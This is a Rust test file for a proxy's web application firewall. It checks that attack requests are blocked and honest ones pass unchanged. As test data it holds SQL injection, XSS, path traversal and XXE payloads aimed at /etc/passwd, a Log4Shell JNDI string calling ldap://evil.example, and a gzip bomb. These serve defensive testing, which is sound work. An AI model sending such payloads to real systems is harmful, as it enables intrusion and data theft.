//! The firewall of a route: what is blocked, where it stands and however it comes, what passes
//! unchanged, and who is told.

use std::io::{BufReader, Write};

use serde_json::Value;

use crate::client::{self, connect, read_response};
use crate::engine::Engine;
use crate::origin::Origin;
use crate::proxy::one_worker;
use crate::wait;

const BLOCK: &str = "firewall = { mode = \"block\" }";
/// More than the firewall looks at.
const LARGE_BYTES: usize = 200_000;
const ATTACK: &str = "id=1&q=1%27+or+%271%27%3D%271";

fn post(content_type: &str, framing: &str, body: &[u8]) -> Vec<u8> {
    let head = format!(
        "POST /form HTTP/1.1\r\nHost: a\r\nContent-Type: {content_type}\r\n{framing}\r\n\r\n"
    );
    [head.as_bytes(), body].concat()
}

fn with_length(content_type: &str, body: &[u8]) -> Vec<u8> {
    post(content_type, &format!("Content-Length: {}", body.len()), body)
}

fn chunked(body: &[u8], size: usize) -> Vec<u8> {
    let mut out = Vec::new();
    for piece in body.chunks(size) {
        write!(out, "{:x}\r\n", piece.len()).expect("memory");
        out.extend_from_slice(piece);
        out.extend_from_slice(b"\r\n");
    }
    out.extend_from_slice(b"0\r\n\r\n");
    out
}

const FORM: &str = "application/x-www-form-urlencoded";

#[test]
fn attacks_are_blocked_wherever_they_stand() {
    let origin = Origin::named("one");
    for buffering in ["", "\nrequest_buffering = true"] {
        let engine = Engine::start(&one_worker(&format!("{BLOCK}{buffering}"), "", &[&origin]));
        let get = |target: &str, lines: &str| {
            format!("GET {target} HTTP/1.1\r\nHost: a\r\n{lines}\r\n").into_bytes()
        };
        let multipart = "--x\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n<script>alert(1)</script>\r\n--x--\r\n";
        let in_chunks = post(FORM, "Transfer-Encoding: chunked", &chunked(ATTACK.as_bytes(), 1));
        let waiting = post(
            FORM,
            &format!("Expect: 100-continue\r\nContent-Length: {}", ATTACK.len()),
            ATTACK.as_bytes(),
        );
        let late = [&b"a=".repeat(20_000)[..], b"&", ATTACK.as_bytes()].concat();
        let behind_many = [
            format!("POST /?{} HTTP/1.1\r\nHost: a\r\n", "&".repeat(2049)).as_bytes(),
            format!("Content-Type: {FORM}\r\nContent-Length: {}\r\n\r\n", ATTACK.len()).as_bytes(),
            ATTACK.as_bytes(),
        ]
        .concat();
        for request in [
            behind_many,
            get(&format!("/?{ATTACK}"), ""),
            get("/a/..%252f..%252fetc/passwd", ""),
            get("/", "User-Agent: sqlmap/1.7\r\n"),
            get("/", "Cookie: a=1; b=%3Csvg/onload=alert(1)%3E\r\n"),
            get("/", "X-Name: ${jndi:ldap://evil.example/a}\r\n"),
            with_length(FORM, ATTACK.as_bytes()),
            with_length("application/json", br#"{"a":{"b":["\u0027 or 1=1-- "]}}"#),
            with_length("multipart/form-data; boundary=x", multipart.as_bytes()),
            with_length(
                "text/xml",
                b"<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]><x/>",
            ),
            in_chunks,
            waiting,
            with_length(FORM, &late),
        ] {
            let answer = client::raw(
                engine.address(),
                &[&request, &get("/end", "Connection: close\r\n")[..]].concat(),
            );
            let answer = answer.strip_prefix("HTTP/1.1 100 Continue\r\n\r\n").unwrap_or(&answer);
            let shown = String::from_utf8_lossy(&request[..request.len().min(200)]).into_owned();
            assert!(answer.starts_with("HTTP/1.1 403 Forbidden\r\n"), "{shown}\n{answer}");
            // The connection goes on: what comes next is answered for itself.
            assert!(answer.contains("HTTP/1.1 200 OK\r\n"), "{shown}\n{answer}");
        }
    }
    assert!(origin.seen().iter().all(|request| request.head.starts_with("GET /end ")));
}

#[test]
fn what_passes_is_what_came() {
    let origin = Origin::named("one");
    let engine = Engine::start(&one_worker(BLOCK, "", &[&origin]));
    let honest = b"name=O%27Neil&text=select+a+colour+from+the+union&n=1+or+2".to_vec();
    let large: Vec<u8> = (0..LARGE_BYTES).map(|n| b'a' + (n % 251 % 26) as u8).collect();
    let mut reader = BufReader::new(connect(engine.address()).expect("the listener accepts"));
    for body in [b"".to_vec(), honest, large.clone()] {
        for content_type in [FORM, "application/json", "text/plain", "image/png"] {
            let coded = chunked(&body, 7_000);
            for request in [
                with_length(content_type, &body),
                post(content_type, "Transfer-Encoding: chunked", &coded),
            ] {
                reader.get_mut().write_all(&request).expect("the proxy reads");
                let answer = read_response(&mut reader).expect("an answer");
                assert_eq!(answer.status, 200, "{content_type} {}", body.len());
                let seen = origin.seen().pop().expect("it arrived");
                assert!(seen.body == body, "{content_type} {}", body.len());
            }
        }
    }
    let cut = wait::until("the row", || {
        engine.status()["firewall"]["cut_bodies"].as_u64().filter(|n| *n >= 6)
    });
    assert_eq!(cut, 6, "pictures are not looked at");
    // Told once for all of them.
    wait::until("the event", || {
        let events = engine.ctl_ok(&["events", "--json"]);
        events.contains("\"verb\":\"unjudged\"").then_some(())
    });
    let refusing = "firewall = { mode = \"block\", on_oversize = \"block\" }";
    let engine = Engine::start(&one_worker(refusing, "", &[&origin]));
    for (content_type, status) in [(FORM, 413), ("image/png", 200)] {
        let answer = client::raw(engine.address(), &closing(with_length(content_type, &large)));
        assert!(answer.starts_with(&format!("HTTP/1.1 {status} ")), "{content_type}: {answer}");
    }
}

/// The same request, the last of its connection.
fn closing(request: Vec<u8>) -> Vec<u8> {
    let text = String::from_utf8(request).expect("plain letters");
    text.replacen("\r\n", "\r\nConnection: close\r\n", 1).into_bytes()
}

fn gzipped(text: &[u8]) -> Vec<u8> {
    let mut coder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    coder.write_all(text).expect("memory");
    coder.finish().expect("memory")
}

#[test]
fn a_compressed_body_is_judged_by_what_it_says() {
    let origin = Origin::named("one");
    for buffering in ["", "\nrequest_buffering = true"] {
        let engine = Engine::start(&one_worker(&format!("{BLOCK}{buffering}"), "", &[&origin]));
        let bomb = vec![b'a'; 8 << 20];
        let unread = || engine.status()["firewall"]["cut_bodies"].as_u64().unwrap_or_default();
        for (body, coding, status, cut) in [
            (gzipped(b"q=honest"), "gzip", 200, 0),
            (gzipped(ATTACK.as_bytes()), "gzip", 403, 0),
            (gzipped(&gzipped(ATTACK.as_bytes())), "gzip, gzip", 403, 0),
            (gzipped(&bomb), "gzip", 200, 1),
            (gzipped(ATTACK.as_bytes()), "rot13", 200, 2),
            (ATTACK.as_bytes().to_vec(), "identity", 403, 2),
        ] {
            let framing = format!(
                "Connection: close\r\nContent-Encoding: {coding}\r\nTransfer-Encoding: chunked"
            );
            let answer = client::raw(engine.address(), &post(FORM, &framing, &chunked(&body, 100)));
            assert!(answer.starts_with(&format!("HTTP/1.1 {status} ")), "{coding}: {answer}");
            wait::until("the count", || (unread() == cut).then_some(()));
        }
        let seen = origin.seen();
        assert!(seen.iter().any(|request| request.body == gzipped(&bomb)), "it passes as it came");
    }
}

/// A score that is never reached is no way around what is not looked at any more.
#[test]
fn more_values_than_are_looked_at_are_an_attack_at_any_threshold() {
    let origin = Origin::named("one");
    let high = "firewall = { mode = \"block\", threshold = 1000 }";
    let engine = Engine::start(&one_worker(high, "", &[&origin]));
    let body = [b"a='&".repeat(2_049), ATTACK.as_bytes().to_vec()].concat();
    let answer = client::raw(engine.address(), &closing(with_length(FORM, &body)));
    assert!(answer.starts_with("HTTP/1.1 403 "), "{answer}");
}

#[test]
fn a_log_says_what_was_made_of_each_request() {
    let origin = Origin::named("one");
    let format = "$uri $firewall_verdict $firewall_score $firewall_rules";
    let keys = format!(
        "firewall = {{ mode = \"block\" }}\naccess_log = {{ file = \"access.log\", format = \"{format}\" }}\n\
         [[server.route]]\npath = \"/off\"\nupstream = \"app\"\nfirewall = {{ mode = \"off\" }}\n\
         [[server.route]]\npath = \"/watch\"\nupstream = \"app\"\nfirewall = {{ mode = \"detect\" }}\n"
    );
    let engine = Engine::start(&one_worker(&keys, "", &[&origin]));
    for target in
        ["/clean", "/off?q=<script>", "/watch?q=<script>&r=<script>", "/?q=<script>&r=1'or'1'='1"]
    {
        client::get(engine.address(), target);
    }
    let large = with_length(FORM, &b"a".repeat(LARGE_BYTES));
    client::raw(engine.address(), &closing(large));
    let path = engine.folder.path().join("access.log");
    let expected = [
        "/clean passed 0 -",
        "/off - - -",
        "/watch detected 10 cross-site-scripting",
        "/ blocked 10 cross-site-scripting,sql-injection",
        "/form unjudged 0 -",
    ];
    wait::until("the lines", || {
        let text = std::fs::read_to_string(&path).unwrap_or_default();
        (text.lines().collect::<Vec<_>>() == expected).then_some(())
    });
}

/// A stream is a request like others: head, cookies in pieces, and body.
#[test]
fn attacks_over_http2_are_blocked_too() {
    let Some(curl) = crate::http2::Curl::find() else { return };
    let origin = Origin::named("one");
    let engine = Engine::start(&crate::http2::plain(BLOCK, &[&origin]));
    let status = |path: &str, more: &[&str]| {
        let asked = [
            &["--http2-prior-knowledge", "-o", "/dev/null", "-w", "%{http_version} %{http_code}"],
            more,
        ];
        curl.get(&engine, path, &asked.concat())
    };
    assert_eq!(status("/?q=select+a+colour+from+the+union", &[]), "2 200");
    assert_eq!(status(&format!("/?{ATTACK}"), &[]), "2 403");
    assert_eq!(status("/", &["-H", "cookie: a=1; b=%3Csvg/onload=alert(1)%3E"]), "2 403");
    assert_eq!(status("/", &["-d", ATTACK]), "2 403");
    assert_eq!(status("/", &["-d", "q=honest"]), "2 200");
    wait::until("the rows", || {
        let alarms = engine.status()["firewall"]["alarms"].to_string();
        (alarms.contains("form:q") && alarms.contains("cookie:b")).then_some(())
    });
}

/// A route's settings stand in place of its server's.
#[test]
fn modes_thresholds_and_exceptions_are_a_routes_own() {
    let origin = Origin::named("one");
    let routes = r#"
        firewall = { mode = "block" }
        [[server.route]]
        path = "/off/"
        upstream = "app"
        firewall = { mode = "off" }
        [[server.route]]
        path = "/watch/"
        upstream = "app"
        firewall = { mode = "detect" }
        [[server.route]]
        path = "/high/"
        respond = { body = "high" }
        firewall = { mode = "block", threshold = 6 }
        [[server.route]]
        path = "/excepted/"
        respond = { body = "excepted" }
        firewall = { mode = "block", except = [{ rule = "sql-injection", where = "query:q" }] }
    "#;
    let engine = Engine::start(&one_worker(routes, "", &[&origin]));
    for (target, status) in [
        ("/off/?q=<script>", 200),
        ("/watch/?q=<script>", 200),
        ("/high/?q=<script>", 200),
        ("/high/?q=<script>&r=<script>", 403),
        ("/excepted/?q='%20or%201=1--", 200),
        ("/excepted/?r='%20or%201=1--", 403),
        ("/excepted/?q=<script>", 403),
        ("/?q=<script>", 403),
    ] {
        assert_eq!(client::get(engine.address(), target).status, status, "{target}");
    }
    let row = wait::until("the row", || {
        let row = engine.status()["firewall"].clone();
        (row["blocked"] == 4).then_some(row)
    });
    assert_eq!((&row["detected"], &row["inspected"]), (&Value::from(1), &Value::from(7)));
    let alarm = |rule: &str, place: &str, verdict: &str| {
        let alarms = row["alarms"].as_array().expect("a list");
        let is_it =
            |it: &&Value| it["rule"] == rule && it["place"] == place && it["verdict"] == verdict;
        alarms
            .iter()
            .find(is_it)
            .unwrap_or_else(|| panic!("{rule} {place} {verdict}: {row}"))
            .clone()
    };
    let last = alarm("cross-site-scripting", "query:q", "blocked");
    assert_eq!((&last["count"], &last["client"]), (&Value::from(3), &Value::from("127.0.0.1")));
    assert_eq!((&last["host"], &last["path"]), (&Value::from("test"), &Value::from("/")));
    alarm("cross-site-scripting", "query:q", "detected");
    alarm("sql-injection", "query:r", "blocked");
}

/// However many attacks come, events tell of each kind, and not of each.
#[test]
fn a_flood_is_told_in_few_events_and_counted_whole() {
    let origin = Origin::named("one");
    let engine = Engine::start(&one_worker(BLOCK, "", &[&origin]));
    let mut flood = Vec::new();
    for n in 0..300 {
        write!(flood, "GET /?a{n}=%3Cscript%3E&password=x'or'1'='1 HTTP/1.1\r\nHost: a\r\n\r\n")
            .expect("memory");
    }
    flood.extend_from_slice(
        b"GET /?q=%3Cscript%3E HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n",
    );
    let answers = client::raw(engine.address(), &flood);
    assert_eq!(answers.matches("HTTP/1.1 403 ").count(), 301);
    wait::until("all counted", || (engine.status()["firewall"]["blocked"] == 301).then_some(()));
    let events = engine.ctl_ok(&["events", "--json"]);
    let told = events.lines().filter(|line| line.contains("\"verb\":\"blocked\"")).count();
    assert!((1..=12).contains(&told), "{events}");
    assert!(events.contains("cross-site-scripting in query:"), "{events}");
    let metrics = client::unix_get(&engine.socket(), "/metrics").expect("a page").text();
    for line in [
        "pilothouse_firewall_attacks_total{verdict=\"blocked\"} 301",
        "pilothouse_firewall_findings_total{rule=\"cross-site-scripting\",verdict=\"blocked\"} 301",
        "pilothouse_firewall_findings_total{rule=\"sql-injection\",verdict=\"blocked\"} 300",
    ] {
        assert!(metrics.contains(line), "{line}\n{metrics}");
    }
    // The words of what may be a secret are nowhere.
    assert!(!events.contains("'or'") && !engine.status().to_string().contains("'or'"));
}
